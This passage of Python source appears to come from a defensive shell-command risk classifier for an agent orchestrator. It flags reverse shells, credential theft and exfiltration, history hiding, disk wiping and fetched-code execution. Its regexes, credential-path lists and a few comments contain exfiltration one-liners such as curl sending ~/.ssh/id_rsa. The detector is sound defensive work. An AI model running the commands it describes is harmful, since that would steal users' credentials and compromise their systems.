    r"patch|apply|destroy|drain|cordon|scale|exec|cp|sync|mv|rm|rb|mb|deploy|install|"
    r"uninstall|upgrade|rollback|detonate|warmup|reset|rotate|purge|restore|copy|share)"
    r"(?:[-_]|$)"
)
_CLOUD_SECRET = _LazyRe(
    r"^(?:secrets?|get-secret-value|get-parameters?|get-session-token|"
    r"get-credentials|print-access-token|get-login-password|"
    r"list-access-keys|create-access-key|get-password-data|keys)$"
)


def _cloud(cmd: Cmd) -> list[Finding]:
    """Cloud and cluster CLIs: changing resources, or reading their secrets."""
    if cmd.prog not in _CLOUD or any(
        a.startswith(("--dry-run", "--dryrun")) or a == "plan" for a in cmd.args
    ):
        return []
    words = [a for a in cmd.args if not a.startswith("-")][:4]
    if any(_CLOUD_SECRET.match(w) for w in words):
        return [
            ("high", f"reads credentials or keys ({cmd.prog} {' '.join(words[:3])})", "cloud.reads-secrets")
        ]
    if any(_CLOUD_VERB.match(w) for w in words):
        return [
            (
                "high",
                f"changes cloud or cluster resources ({cmd.prog} {' '.join(words[:3])})",
                "cloud.changes-resources",
            )
        ]
    return []


_UPLOAD = _LazyRe(
    r"^(?:-F|--form|-T|--upload-file|--data-binary|--data-raw|--data|"
    r"--data-urlencode|-d|--post-file|--post-data|--body-file|--body-data|"
    r"--json)(?:=|$)"
)


def _sends(cmd: Cmd) -> list[Finding]:
    """Data leaving the machine: uploads, DNS queries carrying data, remote output saved."""
    prog, args = cmd.prog, cmd.args
    hosts = [
        a
        for a in args
        if not a.startswith("-") and re.match(r"^(?:[a-z]+://)?(?:[^@/]*@)?[\w.-]+(?::\d+)?(?:/|$)", a)
    ]
    if hosts and all(
        re.match(
            r"^(?:[a-z]+://)?(?:[^@/]*@)?(?:localhost|127\.\d+\.\d+\.\d+|"
            r"0\.0\.0\.0|\[::1\]|host\.docker\.internal)(?::\d+)?(?:/|$)",
            h,
        )
        for h in hosts[-1:]
    ):
        return []  # this machine's own services
    if prog in ("curl", "wget", "http", "https"):
        method = [args[i + 1].upper() for i, a in enumerate(args[:-1]) if a in ("-X", "--request")]
        method += [a.split("=", 1)[1].upper() for a in args if a.startswith("--method=")]
        method += [a[2:].upper() for a in args if a.startswith("-X") and len(a) > 2]
        files = [a for i, a in enumerate(args[1:], 1) if _UPLOAD.match(args[i - 1]) and a.startswith("@")] + [
            a.split("=", 1)[1]
            for a in args
            if _UPLOAD.match(a) and "=" in a and a.split("=", 1)[1].startswith("@")
        ]
        if (
            files
            or any(
                _UPLOAD.match(a)
                and a in ("-F", "--form", "-T", "--upload-file", "--post-file", "--body-file")
                for a in args
            )
            or {"POST", "PUT"} & set(method)
            or any(a.startswith(("--post-data", "--post-file", "--body-data")) for a in args)
        ):
            return [("high", f"sends data to a remote host ({prog} upload)", "network.upload")]
    if prog in ("dig", "nslookup", "host", "drill") and any(
        not w.static and re.search(r"[)`][\w-]*\.[\w-]+", w.value) for w in cmd.argv[1:]
    ):
        return [("high", "sends data to a remote host (inside DNS queries)", "network.dns-exfiltration")]
    return []


def _history(cmd: Cmd) -> list[Finding]:
    """Hiding what was run: history variables, ``history -c``, ``set +o history``."""
    hides = any(_HISTORY_VARS.match(a) for a in cmd.assigns)
    args = cmd.args
    if cmd.prog in ("export", "declare", "typeset", "local", "readonly"):
        hides = hides or any(_HISTORY_VARS.match(a) for a in args)
    elif cmd.prog == "unset":
        hides = any(a.startswith("HIST") or a == "PROMPT_COMMAND" for a in args)
    elif cmd.prog == "history":
        # -c clears everything; -d N drops one entry (not asked)
        hides = any(a.startswith("-") and "c" in a[1:] for a in args)
    elif cmd.prog == "set":
        hides = "+o" in args and "history" in args
    return [("high", "hides shell history", "system.hides-history")] if hides else []


def _remote_access(cmd: Cmd) -> list[Finding]:
    prog, args = cmd.prog, cmd.args
    if (
        prog in _REMOTE_ACCESS
        and (prog != "cloudflared" or "tunnel" in args)
        and (prog != "lt" or "--port" in args)
    ):
        return [("high", f"opens a remote access channel ({prog})", "network.remote-access")]
    if prog == "ssh" and any(a in ("-R", "-D") or (a.startswith(("-R", "-D")) and len(a) > 2) for a in args):
        return [("high", "opens a remote access channel (ssh port forward)", "network.remote-access")]
    if (prog.startswith("python") and any(a in ("-mhttp.server", "http.server") for a in args)) or (
        prog in ("php",) and "-S" in args
    ):
        return [
            ("high", "opens a remote access channel (a web server on this machine)", "network.remote-access")
        ]
    return []


_DISK_TOOLS = frozenset(
    {
        "mkfs",
        "wipefs",
        "fdisk",
        "sfdisk",
        "cfdisk",
        "parted",
        "gdisk",
        "sgdisk",
        "blkdiscard",
        "mkswap",
        "cryptsetup",
        "zpool",
    }
)


def _writes(cmd: Cmd, ws: str | None) -> list[Finding]:
    """Redirections and the destinations of cp/mv/tee/dd/install/ln/sed -i."""
    dests: list[Word] = [w for op, w in cmd.redirects if op in (">", ">>", ">|", "&>", "&>>", ">&")]
    prog, args = cmd.prog, cmd.argv[1:]
    _, operands = _flags(args)
    if prog in ("cp", "mv", "install", "ln", "rsync") and len(operands) >= 2:
        dests.append(operands[-1])
    elif prog == "tee":
        dests.extend(operands)
    elif prog == "dd":
        dests.extend(Word(a.value[3:], a.static) for a in args if a.value.startswith("of="))
    elif prog == "sed" and any(a.value.startswith(("-i", "--in-place")) for a in args):
        dests.extend(operands[1:])
    elif prog == "truncate":
        dests.extend(w for w in operands if not re.match(r"^[+-<>/%]?\d+[KMGTkmg]?$", w.value))
    out: list[Finding] = []
    for assign in (*cmd.assigns, *(a for a in cmd.args if cmd.prog == "export")):
        m = _PRELOAD.match(assign)
        if (
            m
            and not m.group(0).startswith("PROMPT_COMMAND")
            and (
                not m.group(0).startswith("NODE_OPTIONS") or "--require" in m.group(1) or "-r " in m.group(1)
            )
        ):
            value = m.group(1).strip("'\"")
            cls = path_class(value.split(":")[0], cmd.cwd, ws) if value else "inside"
            if cls not in ("inside", "workspace", "system") or cmd.prog == "export":
                out.append(
                    ("high", f"installs code that runs at start-up ({assign[:60]})", "system.start-up-code")
                )
    for w in dests:
        v = w.value
        if not w.static or v.isdigit() or v in ("-", ""):
            continue
        cls = path_class(v, cmd.cwd, ws)
        if cls == "device":
            out.append(("critical", f"writes to a block device ({v})", "system.writes-block-device"))
        elif (
            CREDENTIAL_PATH.search(v)
            and re.search(r"(?:^|/)\.env[^/]*$", v)
            and cls in ("inside", "workspace", "temp")
        ):
            out.append(("medium", f"writes the project's .env file ({v})", "credentials.writes-project-env"))
        elif _POLICY_FILE.search(v):
            out.append(("high", f"changes the risk gate's policy ({v})", "system.changes-gate-policy"))
        elif (CREDENTIAL_PATH.search(v) or _STARTUP.search(v)) and _in_project(cls, ws):
            continue  # a key file or a .profile the project itself keeps: not the user's
        elif CREDENTIAL_PATH.search(v):
            out.append(("high", f"writes a credential or key file ({v})", "credentials.writes"))
        elif _STARTUP.search(v) or _STARTUP_ENTRY.search(v):
            out.append(("high", f"installs code that runs at start-up ({v})", "system.start-up-code"))
        elif cls == "system":
            out.append(("high", f"writes a system path ({v})", "system.writes-system-path"))
    return out


_CRED_NAME = _LazyRe(
    r"^['\"]?\*?(?:id_(?:rsa|dsa|ecdsa|ed25519)|\.netrc|\.pgpass|\.gnupg|"
    r"\.git-credentials|credentials?(?:\.\w+)?|tokens?|\.aws|\.ssh|\*?\.pem|"
    r"\*?\.key|\*?\.kdbx|\*?\.p12|\*?\.pfx|\.env|shadow|secrets?(?:\.\w+)?|"
    r"\.vault-token|\.kube|kubeconfig|Login Data|\*?\.keychain(?:-db)?)\*?['\"]?$"
    r"|/(?:\.ssh|\.aws|\.gnupg|\.oci|\.kube)(?:/|$)"
)
_METADATA = _LazyRe(
    r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|"
    r"169\.254\.170\.2|fd00:ec2::254"
)


_SECRET_VAR = _LazyRe(
    r"\$\{?(?:\w*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|"
    r"PRIVATE_KEY|CREDENTIAL)\w*)\}?",
    re.IGNORECASE,
)
_NOT_READERS = frozenset(
    {
        "ls",
        "stat",
        "test",
        "[",
        "[[",
        "touch",
        "mkdir",
        "chmod",
        "chown",
        "echo",
        "printf",
        "ssh-keygen",
        "ssh-add",
        "ssh",
        "scp",
        "rsync",
        "sftp",
        "git",
        "find",
        "rm",
        "file",
        "ln",
        "du",
        "wc",
        "realpath",
        "readlink",
        "dirname",
        "basename",
    }
)
_PATTERN_FIRST = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "sed", "awk", "gawk"})


def _read_paths(cmd: Cmd) -> list[str]:
    """The paths a command reads (not the ones it only writes, lists or searches for)."""
    if cmd.prog == "ssh":  # ssh host < ~/.ssh/id_rsa sends the file
        return [w.value for op, w in cmd.redirects if op == "<" and w.static]
    if cmd.prog in _NOT_READERS:
        return []
    words = [w for w in cmd.argv[1:] if w.static]
    if cmd.prog in _PATTERN_FIRST and not any(w.value in ("-e", "-f", "--regexp", "--file") for w in words):
        operands = [w for w in words if not w.value.startswith("-")]
        words = [w for w in words if w is not (operands[0] if operands else None)]
    if cmd.prog in ("cp", "mv", "install", "tee", "dd"):  # the destination is written
        operands = [w for w in words if not w.value.startswith("-")]
        words = [w for w in words if w is not (operands[-1] if operands else None)]
    if cmd.prog == "dd":
        words = [Word(w.value[3:]) for w in words if w.value.startswith("if=")]
    out = [p for w in words for p in word_paths(w)]
    out += [w.value for op, w in cmd.redirects if op in ("<", "<<<") and w.static]
    if cmd.prog in NETWORK:
        out = [v.lstrip("@").split("=", 1)[-1].lstrip("@") for v in out]
    return [v.split("=", 1)[1] if v.startswith("-") and "=" in v else v for v in out]


def word_paths(w: Word) -> list[str]:
    """The paths a word stands for: find's ``{}`` is every file it selects under its start
    paths (``~/.ssh/id_*``), any other word its value."""
    if not w.found_under:
        return [w.value]
    if w.selects:
        return [s.rstrip("/") + "/" + posixpath.basename(n) for s in w.found_under for n in w.selects]
    return list(w.found_under)


def secret_path(path: str) -> bool:
    """A credential file, a credential folder, or a glob of files in one (``~/.ssh/id_*``)."""
    path = path.rstrip("/")
    if CREDENTIAL_PATH.search(path):
        return True
    if any(ch in path for ch in "*?["):
        return bool(
            CREDENTIAL_PATH.search(posixpath.dirname(path)) or _CRED_NAME.search(posixpath.basename(path))
        )
    return False


_CRED_IN_CODE = _LazyRe(
    r"\.ssh/(?:id_|authorized_keys)|\.aws/credentials|\.netrc\b|\.pgpass|\.git-credentials|\.gnupg|"
    r"\.kube/config|\.docker/config\.json|/etc/shadow|\.config/gcloud|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|"
    r"\.vault-token|key4\.db|logins\.json|Login Data|\.password-store|\.config/gh/hosts"
)
_NET_IN_CODE = _LazyRe(
    r"https?://|['\"]https?['\"]|\burllib|\brequests\.|\bhttp\.client|\bsocket\b|\bfetch\(|XMLHttpRequest|"
    r"net/http|Net::HTTP|LWP::|HTTP::Tiny|IO::Socket|\bsmtplib|\bftplib|\bparamiko|"
    r"require\(\s*['\"](?:https?|net|dgram|tls|axios|node-fetch)['\"]\s*\)|TCPSocket|\bcurl\b|\bwget\b"
)


def _code_secrets(code: str, lang: str) -> list[Finding]:
    """A one-liner that names a credential file, and sends it when it also talks to the network."""
    named = _CRED_IN_CODE.search(code)
    if not named:
        return []
    if _NET_IN_CODE.search(code):
        return [
            (
                "critical",
                f"sends credentials over the network ({lang} code reads {named.group(0)})",
                "credentials.sends",
            )
        ]
    return [("high", f"reads credentials or keys ({lang} code: {named.group(0)})", "credentials.reads")]


def _credentials(cmd: Cmd, sink_network: bool, ws: str | None) -> list[Finding]:
    if cmd.prog in ("find", "locate", "mlocate", "fd", "fdfind"):
        return _credential_search(cmd, ws)
    if cmd.prog in NETWORK:
        if any(_METADATA.search(w.value) for w in cmd.argv[1:]):
            return [
                (
                    "high",
                    "reads credentials or keys (a cloud metadata endpoint)",
                    "credentials.metadata-endpoint",
                )
            ]
        for w in cmd.argv[1:]:  # find ~/.ssh -exec curl -F f=@{} ...: every key file found
            if w.found_under and any(secret_path(p) for p in word_paths(w)):
                return [
                    (
                        "critical",
                        f"sends credentials over the network ({word_paths(w)[0]})",
                        "credentials.sends",
                    )
                ]
        for w in cmd.argv[1:]:  # curl http://x/$(cat ~/.ssh/id_rsa), -d "$API_TOKEN"
            if not w.static and (
                _SECRET_VAR.search(w.value)
                or any(CREDENTIAL_PATH.search(t) for t in re.split(r"[\s|;&()`'\"]+", w.value))
            ):
                return [
                    ("critical", f"sends credentials over the network ({w.value[:60]})", "credentials.sends")
                ]
    if (
        cmd.prog == "gh"
        and cmd.args[:2] in (["auth", "token"], ["auth", "status"])
        and (cmd.args[:2] == ["auth", "token"] or "--show-token" in cmd.args)
    ):
        return [("high", "reads credentials or keys (gh auth token)", "credentials.reads")]
    paths = _read_paths(cmd)
    strong = [v for v in paths if secret_path(v)]
    weak = [
        v
        for v in paths
        if KEY_FILE.search(v) and path_class(v, cmd.cwd, ws) not in ("inside", "workspace", "temp")
    ]
    hits = strong or weak
    if sink_network and (hits or cmd.prog in ("env", "printenv") or (cmd.prog == "set" and not cmd.args)):
        return [
            (
                "critical",
                f"sends credentials over the network ({(hits or [cmd.prog])[0]})",
                "credentials.sends",
            )
        ]
    if not hits:
        return []
    if cmd.prog in NETWORK or (cmd.prog == "ssh" and strong):
        return [("critical", f"sends credentials over the network ({hits[0]})", "credentials.sends")]
    return [("high", f"reads credentials or keys ({hits[0]})", "credentials.reads")]


def _credential_search(cmd: Cmd, ws: str | None) -> list[Finding]:
    """find/locate/fd for key files outside the workspace (inside it, a listing is routine)."""
    args = cmd.args
    if cmd.prog == "find":
        from task_orchestrator.risk.shell import _find_starts

        starts = _find_starts(cmd.argv[1:])[0]
        if all(path_class(s, cmd.cwd, ws) in ("inside", "workspace", "git", "temp") for s in starts):
            return []
        names = [
            args[i + 1]
            for i, a in enumerate(args[:-1])
            if a in ("-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-wholename")
        ]
    else:
        names = [a for a in args if not a.startswith("-")]
    found = [n for n in names if _CRED_NAME.search(n)]
    return (
        [("high", f"reads credentials or keys (searches for {found[0]})", "credentials.searches")]
        if found
        else []
    )


_PY_DELETE = {
    "shutil.rmtree": True,
    "os.remove": False,
    "os.unlink": False,
    "os.rmdir": False,
    "os.removedirs": True,
    "rmtree": True,
    "remove": False,
    "unlink": False,
    "rmdir": False,
}
# Calls that run a shell command line (a string) or a program (a list of arguments).
_PY_SHELL = (
    "system",
    "popen",
    "run",
    "call",
    "Popen",
    "check_call",
    "check_output",
    "getoutput",
    "getstatusoutput",
    "spawn",
)
_PY_EXEC = (
    "execv",
    "execve",
    "execvp",
    "execvpe",
    "execl",
    "execle",
    "execlp",
    "execlpe",
    "spawnv",
    "spawnve",
    "spawnvp",
    "spawnvpe",
    "spawnl",
    "spawnle",
    "spawnlp",
    "spawnlpe",
    "posix_spawn",
    "posix_spawnp",
)
_SHELL_PATHS = re.compile(r"^(?:/usr)?/bin/(?:ba|z|da|k)?sh$|^(?:ba|z|da|k)?sh$")


def _dotted(node) -> str:
    import ast

    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    if isinstance(node, ast.Call):  # pathlib.Path('x').unlink, require('fs').rmSync
        return _dotted(node.func) + "()"
    return ""


def _py_path(node) -> str | None:
    """A literal path a Python expression names: '/x', os.path.expanduser('~'), Path.home()."""
    import ast

    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    if isinstance(node, ast.Call):
        name = _dotted(node.func)
        if name.endswith(("Path.home", "expanduser.home")) or name in ("home",):
            return "~"
        if (
            name.endswith(
                ("expanduser", "Path", "abspath", "realpath", "expandvars", "PurePath", "PosixPath")
            )
            and node.args
        ):
            return _py_path(node.args[0])
        if name.endswith(".expanduser()") or name.endswith((".resolve", ".absolute")):
            return _py_path(node.func.value) if isinstance(node.func, ast.Attribute) else None
    if isinstance(node, ast.Attribute) and node.attr in ("expanduser", "resolve", "absolute"):
        return _py_path(node.value)
    return None


def _python(code: str, cmd: Cmd, ws: str | None, again) -> list[Finding]:
    import ast  # only for python one-liners: a hook process does not pay for it otherwise
    import shlex

    try:
        tree = ast.parse(code)
    except (SyntaxError, ValueError, MemoryError, RecursionError):
        return (
            [("high", "python code that could not be analysed", "interpreters.unreadable-code")]
            if len(code) > 20_000
            else []
        )
    out: list[Finding] = []
    names = {n.id for n in ast.walk(tree) if isinstance(n, ast.Name)} | {
        n.attr for n in ast.walk(tree) if isinstance(n, ast.Attribute)
    }
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = _dotted(node.func)
        last = name.rsplit(".", 1)[-1].rstrip("()")
        first = (
            node.args[0]
            if node.args
            else next((k.value for k in node.keywords if k.arg in ("path", "args", "cmd", "src")), None)
        )
        if name in _PY_DELETE or last in ("rmtree", "unlink", "remove", "rmdir", "removedirs"):
            recursive = _PY_DELETE.get(name, last in ("rmtree", "removedirs"))
            target = _py_path(first) if first is not None else None
            if (
                target is None
                and isinstance(node.func, ast.Attribute)
                and last in ("unlink", "rmdir")
                and isinstance(node.func.value, ast.Call)
            ):
                target = _py_path(node.func.value)  # Path('x').unlink()
            if target is not None:
                cls = path_class(posixpath.expanduser(target.replace("\x00", "")), cmd.cwd, ws)
                level = _DELETE_LEVEL.get((cls, recursive))
                if level:
                    out.append(
                        (level, f"{name}() deletes {_CLASS_NAME[cls]} ({target})", _delete_id(cls, recursive))
                    )
        elif last in _PY_SHELL or last in _PY_EXEC or name == "pty.spawn":
            argv_node = (
                node.args[1]
                if last in _PY_EXEC and len(node.args) > 1 and isinstance(node.args[1], (ast.List, ast.Tuple))
                else first
            )
            if isinstance(argv_node, ast.Constant) and isinstance(argv_node.value, str):
                out.extend(again(argv_node.value))
            elif isinstance(argv_node, (ast.List, ast.Tuple)):
                parts = [
                    e.value
                    for e in argv_node.elts
                    if isinstance(e, ast.Constant) and isinstance(e.value, str)
                ]
                if parts and len(parts) == len(argv_node.elts):
                    out.extend(again(" ".join(shlex.quote(p) for p in parts)))
                    if (
                        _SHELL_PATHS.match(parts[0])
                        and "socket" in names
                        and ("dup2" in names or "-i" in parts)
                    ):
                        out.append(
                            (
                                "critical",
                                "a shell wired to a network socket (reverse shell)",
                                "network.reverse-shell",
                            )
                        )
            if name == "pty.spawn" and "socket" in names:
                out.append(
                    ("critical", "a shell wired to a network socket (reverse shell)", "network.reverse-shell")
                )
            elif name == "pty.spawn":
                out.append(("high", "spawns a shell on a pseudo-terminal", "interpreters.spawns-pty"))
        elif last in ("exec", "eval") and node.args and isinstance(node.args[0], ast.Call):
            inner = _dotted(node.args[0].func)
            if re.search(r"b64decode|b32decode|decompress|unhexlify|decode|urlopen|\.read|get", inner):
                out.append(
                    (
                        "high",
                        "decodes or downloads code and executes it",
                        "interpreters.executes-fetched-code",
                    )
                )
        elif last == "open" and first is not None:
            target = _py_path(first)
            if target and CREDENTIAL_PATH.search(posixpath.expanduser(target)):
                out.append(("high", f"reads credentials or keys ({target})", "credentials.reads"))
    return out


_JS_DELETE = _LazyRe(
    r"\b(rmSync|rmdirSync|rm|rmdir|unlinkSync|unlink|rimraf|rm_rf|rm_r|"
    r"rmtree|remove_dir_all|remove_tree)\s*\(\s*(?:['\"]([^'\"]+)['\"]|"
    r"((?:require\(\s*['\"]os['\"]\s*\)|os)\.homedir\(\s*\)|"
    r"process\.env\.HOME|Dir\.home|ENV\[['\"]HOME['\"]\]|\$ENV\{HOME\}))"
)
# system("cmd"), exec "cmd", `cmd`, qx{cmd}, execSync('cmd'), system("rm","-rf","/") (a list)
_JS_SHELL = _LazyRe(
    r"\b(?:execSync|execFileSync|exec|spawnSync|spawn|system|popen|qx|"
    r"shell_exec|passthru|proc_open|IO\.popen|Open3\.\w+)\s*\(?\s*"
    r"((?:['\"][^'\"]*['\"]\s*,?\s*)+)|`([^`$]+)`"
)
_REVERSE = _LazyRe(
    r"fsockopen|socket\.socket|new\s+net\.Socket|net\.connect|IO::Socket|"
    r"TCPSocket|Socket\.new|/dev/tcp/"
)


def _script(code: str, cmd: Cmd, ws: str | None, again) -> list[Finding]:
    out: list[Finding] = []
    for m in _JS_DELETE.finditer(code):
        recursive = m.group(1) not in ("unlinkSync", "unlink") or "recursive" in code
        target = m.group(2) or "~"
        cls = path_class(posixpath.expanduser(target), cmd.cwd, ws)
        level = _DELETE_LEVEL.get((cls, recursive))
        if level:
            out.append(
                (level, f"{m.group(1)}() deletes {_CLASS_NAME[cls]} ({target})", _delete_id(cls, recursive))
            )
    for m in _JS_SHELL.finditer(code):
        if m.group(1):
            parts = re.findall(r"['\"]([^'\"]*)['\"]", m.group(1))
            line = " ".join(parts)
        else:
            line = m.group(2)
        found = again(line)
        out.extend(found)
        if _REVERSE.search(code) and re.search(r"(?:^|/|\s)(?:ba|z|da)?sh\b", line):
            out.append(
                ("critical", "a shell wired to a network socket (reverse shell)", "network.reverse-shell")
            )
    return out


_CODE_FLAGS = {
    "python": ("-c",),
    "node": ("-e", "-p", "--eval", "--print"),
    "perl": ("-e", "-E"),
    "ruby": ("-e",),
    "php": ("-r",),
    "awk": (),
}
_OPTS_WITH_ARG = {
    "python": ("-W", "-X", "-Q"),
    "node": ("-r", "--require", "--import", "--loader", "--input-type"),
    "perl": ("-I", "-M", "-m"),
    "ruby": ("-I", "-r"),
    "php": ("-d", "-c"),
}


def _inline_code(cmd: Cmd, lang: str) -> str | None:
    args = cmd.argv[1:]
    if lang == "awk":  # the program is the first operand
        skip = False
        for w in args:
            if skip:
                skip = False
            elif w.value in ("-F", "-v", "-f", "--file", "--assign", "--field-separator"):
                skip = True
            elif not w.value.startswith("-"):
                return w.value
        return None
    flags = _CODE_FLAGS.get(lang, ("-e",))
    letters = "".join(f[1] for f in flags if len(f) == 2)
    i = 0
    while i < len(args):
        v = args[i].value
        if v in flags or (letters and re.match(r"^-[a-zA-Z]*[" + letters + r"]$", v)):
            return args[i + 1].value if i + 1 < len(args) else None
        if any(v.startswith(o) and len(v) > len(o) for o in _OPTS_WITH_ARG.get(lang, ()) if len(o) == 2):
            i += 1  # -MFile::Path, -rfileutils: an option with its value glued on
            continue
        glued = re.match(r"^-[a-zA-Z]*[" + letters + r"](.+)$", v) if letters else None
        if glued and not v.startswith("--"):
            return glued.group(1)
        if v in _OPTS_WITH_ARG.get(lang, ()):
            i += 2
            continue
        if not v.startswith("-"):
            break
        i += 1
    if (
        cmd.stdin in ("heredoc", "literal")
        and cmd.stdin_text
        and (not [a for a in args if not a.value.startswith("-")] or "-" in cmd.args)
    ):
        return cmd.stdin_text
    return None


def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding]:
    """Findings of the structural rules over every simple command of ``parsed``.

    ``again(text)``: the findings of a nested command line (a string a program will run).
    """
    out: list[Finding] = []
    stashed = False
    sinks = {
        c.line for c in parsed.commands if (c.prog in NETWORK or c.prog == "ssh") and c.stdin is not None
    }
    interactive = {c.line for c in parsed.commands if c.prog in SHELLS and (not c.args or "-i" in c.args)}
    downloaded: dict[str, str] = {}
    for cmd in parsed.commands:
        prog = cmd.prog
        if not cmd.argv:
            continue
        ran = _runs_file(cmd)
        if ran and _place(ran, cmd.cwd) in downloaded:
            source = downloaded[_place(ran, cmd.cwd)]
            out.append(
                (
                    "critical",
                    f"runs a file downloaded in the same command ({ran} from {source})",
                    "exec.downloaded-then-run",
                )
            )
        if prog in NETWORK:
            for path, url in _downloads(cmd):
                downloaded[_place(path, cmd.cwd)] = url
        if cmd.argv[0].static and "decoded" in cmd.argv[0].sources:
            out.append(
                (
                    "critical",
                    f"runs a decoded payload as a command ({cmd.argv[0].value[:40]})",
                    "exec.decoded-code",
                )
            )
        if prog == "<dynamic code>":
            kinds = cmd.argv[0].sources
            if "network" in kinds:
                out.append(("critical", "runs code downloaded from the network", "exec.network-code"))
            elif "decoded" in kinds:
                out.append(("critical", "decodes and executes a payload", "exec.decoded-code"))
            else:  # eval "$(pyenv init -)" and the like: reported, not asked
                out.append(
                    ("medium", f"runs code known only at run time ({cmd.wrappers[-1]})", "exec.run-time-code")
                )
            continue
        if (
            prog == "<dynamic program>"
            and _COMPUTED_PROGRAM.match(cmd.argv[0].value)
            and not (cmd.wrappers[-1:] == ("env",) and len(cmd.argv) > 1)  # env $(cat vars) prog
        ):
            # $(...) as the whole program name: what runs is decided when it runs
            out.append(
                (
                    "high",
                    f"runs a program named only at run time ({cmd.argv[0].value[:60]})",
                    "exec.run-time-program",
                )
            )
        elif prog == "<dynamic program>" and any(re.match(r"^-[a-zA-Z]*[rRf]", a) for a in cmd.args):
            # $X -rf ~: an unknown program, flags of a delete, and a target that matters
            hits = [
                (c, v)
                for c, v in _targets(
                    cmd, [w for w in cmd.argv[1:] if not w.value.startswith("-")], cmd.cwd, workspace
                )
                if c in ("root", "home", "system", "device")
            ]
            if hits:
                what = f"{_CLASS_NAME[hits[0][0]]} ({hits[0][1]})"
                out.append(
                    ("high", f"a program known only at run time acts on {what}", "exec.run-time-program")
                )
        if prog in ("rm", "unlink"):
            out.extend(_rm(cmd, workspace))
        elif prog in ("scp", "sftp", "rsync"):
            out.extend(_remote_copy(cmd))
            if prog == "rsync":
                out.extend(_sync_delete(cmd, workspace))
        elif prog == "mv":
            out.extend(_moves(cmd, workspace))
        elif prog in ("shred", "srm", "wipe"):
            out.extend(_shred(cmd, workspace))
        elif prog == "git":
            out.extend(_git(cmd, workspace, stashed))
            stashed = stashed or (
                "stash" in cmd.args and not {"list", "show", "clear", "drop", "pop", "apply"} & set(cmd.args)
            )
        elif prog in ("chmod", "chown", "chgrp"):
            out.extend(_perms(cmd, workspace))
        elif prog.split(".")[0] in _DISK_TOOLS or (
            prog == "diskutil"
            and any(a.startswith(("erase", "partition", "zero", "secureErase")) for a in cmd.args)
        ):
            out.append(("critical", f"{prog} rewrites a disk or partition", "system.disk-tool"))
        elif prog in ("nc", "ncat", "netcat", "socat", "telnet"):
            args = cmd.args
            runs = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-e", "-c", "--exec", "--sh-exec")]
            runs += [a.split(":", 1)[1] for a in args if a.startswith(("exec:", "EXEC:"))]
            if (
                any(posixpath.basename(r.split()[0]) in SHELLS for r in runs if r.split())
                or any(posixpath.basename(a) in SHELLS for a in args)
                or cmd.line in interactive
            ):
                out.append(
                    (
                        "critical",
                        f"{prog} hands a shell to the network (reverse shell)",
                        "network.reverse-shell",
                    )
                )
            elif runs:
                out.append(
                    ("high", f"{prog} runs a command for the network ({runs[0]})", "network.raw-connection")
                )
            else:
                out.append(("high", f"{prog}: raw network connection or listener", "network.raw-connection"))
        elif (
            prog in SHELLS
            and cmd.stdin in ("network", "decoded", "dynamic")
            and not [a for a in cmd.args if not a.startswith("-")]
        ):
            out.append(
                {
                    "network": ("critical", "pipes code from the network into a shell", "exec.network-code"),
                    "decoded": (
                        "critical",
                        "decodes a payload and pipes it into a shell",
                        "exec.decoded-code",
                    ),
                    "dynamic": ("critical", "pipes generated text into a shell", "exec.computed-code"),
                }[cmd.stdin]
            )
        elif (
            prog in SHELLS
            and cmd.wrappers
            and cmd.wrappers[-1]
            in (
                "xargs",
                "find -exec",
                "find -execdir",
                "find -ok",
                "find -okdir",
                "env",
                "flock",
                "nice",
                "timeout",
                "stdbuf",
                "setsid",
            )
            and not cmd.args
        ):
            out.append(
                ("high", f"starts an interactive shell through {cmd.wrappers[-1]}", "exec.wrapped-shell")
            )
        runs_file = prog in SHELLS or prog in ("source", ".") or prog in INTERPRETERS
        if runs_file and any("network" in w.sources for w in cmd.argv[1:]):
            out.append(("critical", "runs code downloaded from the network", "exec.network-code"))
        script = (
            cmd.argv[0]
            if not runs_file
            else next((w for w in cmd.argv[1:] if not w.value.startswith("-")), None)
        )
        if (
            script is not None
            and script.static
            and path_class(script.value, cmd.cwd, workspace) == "temp"
            and "/" in script.value
        ) or (
            script is not None
            and re.match(r"^(?:~|/home/[^/]+|/Users/[^/]+|/root)?/Downloads/", script.value)
        ):
            out.append(
                ("high", f"executes a file from a temp or download folder ({script.value})", "exec.temp-file")
            )
        as_root = bool({"sudo", "doas", "pkexec"} & set(cmd.wrappers))
        if as_root and (prog == "su" or (prog in SHELLS and not cmd.args and cmd.stdin is None)):
            out.append(("high", "opens a root shell", "system.root-shell"))
        sockets = [op for op, w in cmd.redirects if "/dev/tcp/" in w.value or "/dev/udp/" in w.value]
        if prog in SHELLS or prog in ("source", "."):
            out.extend(
                ("critical", "shell wired to a network socket (reverse shell)", "network.reverse-shell")
                for _ in sockets
            )
        lang = INTERPRETERS.get(prog) or INTERPRETERS.get(re.sub(r"[\d.]+$", "", prog))
        if lang:
            code = _inline_code(cmd, lang)
            if (
                code is None
                and cmd.stdin in ("network", "decoded", "dynamic")
                and not [a for a in cmd.args if not a.startswith("-") or a.startswith("-m")]
            ):
                kind = {"network": "exec.network-code", "decoded": "exec.decoded-code"}.get(
                    cmd.stdin, "exec.computed-code"
                )
                out.append(("critical", f"pipes {cmd.stdin} code into {prog}", kind))
            elif code:
                out.extend(
                    _python(code, cmd, workspace, again)
                    if lang == "python"
                    else _script(code, cmd, workspace, again)
                )
                out.extend(_code_secrets(code, lang))
        if prog == "trap" and "DEBUG" in cmd.args[1:]:
            out.append(("high", "runs a command before every command (trap DEBUG)", "system.trap"))
        elif "trap" in cmd.wrappers and (
            prog in SHELLS or prog in INTERPRETERS or "/" in (cmd.argv[0].value if cmd.argv else "")
        ):
            out.append(("high", f"a trap starts a program when the shell exits ({prog})", "system.trap"))
        out.extend(_system_change(cmd))
        out.extend(_cloud(cmd))
        out.extend(_sends(cmd))
        out.extend(_history(cmd))
        out.extend(_remote_access(cmd))
        out.extend(_writes(cmd, workspace))
